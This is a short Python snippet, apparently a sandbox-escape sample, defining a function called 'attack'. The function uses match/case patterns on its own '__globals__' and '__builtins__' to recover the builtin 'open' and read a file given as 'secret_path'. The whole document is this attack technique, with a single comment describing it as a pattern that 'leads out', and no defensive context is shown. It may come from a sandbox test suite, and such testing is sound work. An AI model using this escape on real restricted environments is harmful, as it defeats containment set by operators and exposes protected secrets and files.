# A class pattern of object with attributes that lead out.
def attack(secret_path):
    match attack:
        case object(__globals__={"__builtins__": {"open": reach}}):
            return reach(secret_path).read()
        case object(__builtins__={"open": reach}):
            return reach(secret_path).read()
    return "nothing"
